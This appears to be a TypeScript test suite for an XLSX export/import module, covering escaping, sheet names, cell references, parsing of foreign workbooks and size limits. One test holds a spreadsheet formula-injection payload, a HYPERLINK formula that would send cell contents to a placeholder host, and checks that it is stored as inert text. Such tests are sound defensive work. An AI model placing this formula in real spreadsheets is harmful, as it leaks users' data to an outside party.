import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { readXlsx, sanitizeSheetName, writeXlsx, XlsxReadError } from "./xlsx";

const partsOf = (bytes: Uint8Array) => Object.fromEntries(Object.entries(unzipSync(bytes)).map(([name, data]) => [name, strFromU8(data)]));

describe("writeXlsx then readXlsx", () => {
  it("give back the same values: text, numbers, dates, empty cells", async () => {
    const bytes = await writeXlsx([
      {
        name: "Offres",
        header: ["Qui", "Places", "Vérifiée le", "Rendez-vous"],
        rows: [
          ["CCAS", 12, new Date(Date.UTC(2026, 1, 1)), new Date(Date.UTC(2026, 1, 3, 14, 30))],
          ["Médiathèque", 0.5, null, null],
          ["  espaces autour  ", -3, null, "ligne 1\nligne 2\r\nligne 3\ttab"],
        ],
      },
      { name: "Deuxième", header: ["Seule"], rows: [] },
    ]);
    expect(await readXlsx(bytes)).toEqual([
      {
        name: "Offres",
        rows: [
          ["Qui", "Places", "Vérifiée le", "Rendez-vous"],
          ["CCAS", "12", "2026-02-01", "2026-02-03T14:30:00"],
          ["Médiathèque", "0.5"],
          ["  espaces autour  ", "-3", "", "ligne 1\nligne 2\r\nligne 3\ttab"],
        ],
      },
      { name: "Deuxième", rows: [["Seule"]] },
    ]);
  });

  it("escape & < > \" ' and drop the characters XML cannot hold", async () => {
    const hostile = `Tom & Jerry <b>"gras"</b> l'a dit\u0000\u0007\u001f\uFFFE fin \uD800`;
    const bytes = await writeXlsx([{ name: "A", header: ["Valeur"], rows: [[hostile]] }]);
    expect(partsOf(bytes)["xl/sharedStrings.xml"]).toContain("Tom &amp; Jerry &lt;b&gt;&quot;gras&quot;&lt;/b&gt; l&apos;a dit fin ");
    expect((await readXlsx(bytes))[0]!.rows[1]).toEqual([`Tom & Jerry <b>"gras"</b> l'a dit fin `]);
  });

  it("keep text that looks like OOXML's own escapes (_x0041_) as it was", async () => {
    const bytes = await writeXlsx([{ name: "A", header: ["Code"], rows: [["réf_x0041_B"]] }]);
    expect((await readXlsx(bytes))[0]!.rows[1]).toEqual(["réf_x0041_B"]);
  });

  it("write a value starting with = as inert text, never as a formula", async () => {
    const formula = '=HYPERLINK("http://exemple.invalid/?vol="&A1,"Cliquez")';
    const bytes = await writeXlsx([{ name: "A", header: ["Lien"], rows: [[formula], ["+33 1 23"], ["@SUM(A1)"]] }]);
    const sheet = partsOf(bytes)["xl/worksheets/sheet1.xml"]!;
    expect(sheet).not.toContain("<f>");
    expect(sheet).toContain('<c r="A2" t="s">');
    expect((await readXlsx(bytes))[0]!.rows.slice(1)).toEqual([[formula], ["+33 1 23"], ["@SUM(A1)"]]);
  });

  it("place cells beyond Z and after empty cells by their references", async () => {
    const row: (string | null)[] = Array.from({ length: 30 }, () => null);
    row[0] = "début";
    row[27] = "AB";
    row[29] = "AD";
    const bytes = await writeXlsx([{ name: "Large", header: ["A"], rows: [row] }]);
    const sheet = partsOf(bytes)["xl/worksheets/sheet1.xml"]!;
    expect(sheet).toContain('<c r="AB2" t="s">');
    expect(sheet).not.toContain('r="B2"');
    const read = (await readXlsx(bytes))[0]!.rows[1]!;
    expect(read).toHaveLength(30);
    expect([read[0], read[1], read[27], read[28], read[29]]).toEqual(["début", "", "AB", "", "AD"]);
  });

  it("make the header bold, frozen and filtered, with column widths", async () => {
    const bytes = await writeXlsx([{ name: "A", header: ["Qui", "Quoi"], rows: [["x", "y"], ["z", "t"]], columnWidths: [30, 12] }]);
    const parts = partsOf(bytes);
    const sheet = parts["xl/worksheets/sheet1.xml"]!;
    expect(sheet).toContain('<c r="A1" s="1" t="s">');
    expect(sheet).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
    expect(sheet).toContain('<autoFilter ref="A1:B3"/>');
    expect(sheet).toContain('<col min="1" max="1" width="30" customWidth="1"/><col min="2" max="2" width="12" customWidth="1"/>');
    expect(Object.keys(parts)).toEqual(expect.arrayContaining(["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"]));
    // The same, as a spreadsheet program sees it.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
    const worksheet = workbook.worksheets[0]!;
    expect(worksheet.getCell("A1").font?.bold).toBe(true);
    expect(worksheet.getCell("B1").font?.bold).toBe(true);
    expect(worksheet.getCell("A2").font?.bold).toBeFalsy();
    expect(worksheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(worksheet.autoFilter).toBe("A1:B3");
  });
});

describe("sheet names", () => {
  it("drop what Excel refuses, shorten to 31 characters and stay unique", async () => {
    const taken = new Set<string>();
    expect(sanitizeSheetName("Bilan [2026]: a/b\\c*?", taken, 0)).toBe("Bilan 2026 a b c");
    expect(sanitizeSheetName("'Matrice'", taken, 1)).toBe("Matrice");
    expect(sanitizeSheetName("matrice", taken, 2)).toBe("matrice (2)");
    expect(sanitizeSheetName("Un nom bien trop long pour un onglet de tableur", taken, 3)).toBe("Un nom bien trop long pour un o");
    expect(sanitizeSheetName(" :/ ", taken, 4)).toBe("Feuille 5");
    expect(sanitizeSheetName("History", taken, 5)).toBe("History (2)");
  });
});

/**
 * A workbook as other tools write it: inline strings, rich text with phonetic hints, booleans,
 * errors, formulas with their results, the 1904 date system, custom date formats, sheets listed in
 * another order than their files. (exceljs needs the rows' and cells' references, which Excel,
 * LibreOffice and Google Sheets write, and the parts' usual names.)
 */
function handWrittenWorkbook(sheet2: string): Uint8Array {
  const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  const rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  return zipSync({
    "_rels/.rels": strToU8(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`),
    "xl/workbook.xml": strToU8(
      `<?xml version="1.0"?><workbook ${main} xmlns:r="${rel}"><workbookPr date1904="1"/><sheets><sheet name="Premi&#232;re" sheetId="7" r:id="s2"/><sheet name="Seconde" sheetId="3" r:id="s1"/></sheets></workbook>`,
    ),
    "xl/_rels/workbook.xml.rels": strToU8(
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="s2" Type="${rel}/worksheet" Target="worksheets/sheet2.xml"/><Relationship Id="ss" Type="${rel}/sharedStrings" Target="sharedStrings.xml"/><Relationship Id="st" Type="${rel}/styles" Target="styles.xml"/></Relationships>`,
    ),
    "xl/sharedStrings.xml": strToU8(
      `<sst ${main}><si><t>simple</t></si><si><r><rPr><b/></rPr><t>gr</t></r><r><t xml:space="preserve">as </t></r><rPh sb="0" eb="1"><t>phonetic</t></rPh></si></sst>`,
    ),
    "xl/styles.xml": strToU8(`<styleSheet ${main}><numFmts><numFmt numFmtId="200" formatCode="[$-40C]d\\ mmmm\\ yyyy"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="200"/><xf numFmtId="4"/><xf numFmtId="20"/></cellXfs></styleSheet>`),
    "xl/worksheets/sheet1.xml": strToU8(`<worksheet ${main}><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>`),
    "xl/worksheets/sheet2.xml": strToU8(sheet2),
  });
}

describe("readXlsx", () => {
  it("reads what other tools write, sheets in the workbook's order", async () => {
    const sheet = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
      <row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1" t="s"><v>1</v></c><c r="D1" t="inlineStr"><is><t>en ligne &amp; retour</t></is></c></row>
      <row r="3"><c r="A3" t="b"><v>1</v></c><c r="B3" t="b"><v>0</v></c><c r="C3" t="e"><v>#N/A</v></c><c r="D3" t="str"><f>A1&amp;"!"</f><v>simple!</v></c></row>
      <row r="4"><c r="B4" s="1"><v>0</v></c><c r="C4" s="2"><v>1234.5</v></c><c r="D4"><f>1+1</f><v>2</v></c><c r="E4" s="3"><v>0.4375</v></c></row>
      <row r="5"><c r="A5" s="1"/></row>
    </sheetData></worksheet>`;
    expect(await readXlsx(handWrittenWorkbook(sheet))).toEqual([
      {
        name: "Première",
        rows: [["simple", "", "gras ", "en ligne & retour"], [], ["TRUE", "FALSE", "#N/A", "simple!"], ["", "1904-01-01", "1234.5", "2", "10:30:00"]],
      },
      { name: "Seconde", rows: [["1"]] },
    ]);
  });

  it("refuses a file that is not an XLSX, saying so", async () => {
    await expect(readXlsx(strToU8("Qui;Quoi\nCCAS;Démarches\n"))).rejects.toThrow(new XlsxReadError("Ce fichier n'est pas un classeur XLSX (Excel, LibreOffice) : ce n'est pas une archive zip lisible."));
    await expect(readXlsx(new Uint8Array())).rejects.toThrow(XlsxReadError);
    const otherZip = zipSync({ "word/document.xml": strToU8("<document/>") });
    await expect(readXlsx(otherZip)).rejects.toThrow("il ne contient pas de classeur");
  });

  it("refuses a cell reference no spreadsheet has, broken XML, and an oversized package before inflating it", async () => {
    const sheet = `<worksheet><sheetData><row r="1"><c r="ZZZZ1"><v>1</v></c></row></sheetData></worksheet>`;
    await expect(readXlsx(handWrittenWorkbook(sheet))).rejects.toThrow("une de ses parties est illisible");
    await expect(readXlsx(handWrittenWorkbook(`<worksheet><sheetData><row><c r="A1" <v>1</v></c>`))).rejects.toThrow("une de ses parties est illisible");
    const big = await writeXlsx([{ name: "A", header: ["x".repeat(5000)], rows: [] }]);
    await expect(readXlsx(big, { maxUncompressedBytes: 4000 })).rejects.toThrow("trop volumineux");
  });
});

describe("writeXlsx, twice", () => {
  it("writes the same bytes for the same workbook, whatever the time (a download's ETag holds)", async () => {
    const sheet = { name: "Feuille", header: ["A"], rows: [["x"]] };
    const first = await writeXlsx([sheet]);
    // Zip entries carry times to 2 seconds.
    await new Promise((resolve) => setTimeout(resolve, 2100));
    expect(Buffer.from(await writeXlsx([sheet])).equals(Buffer.from(first))).toBe(true);
  });
});
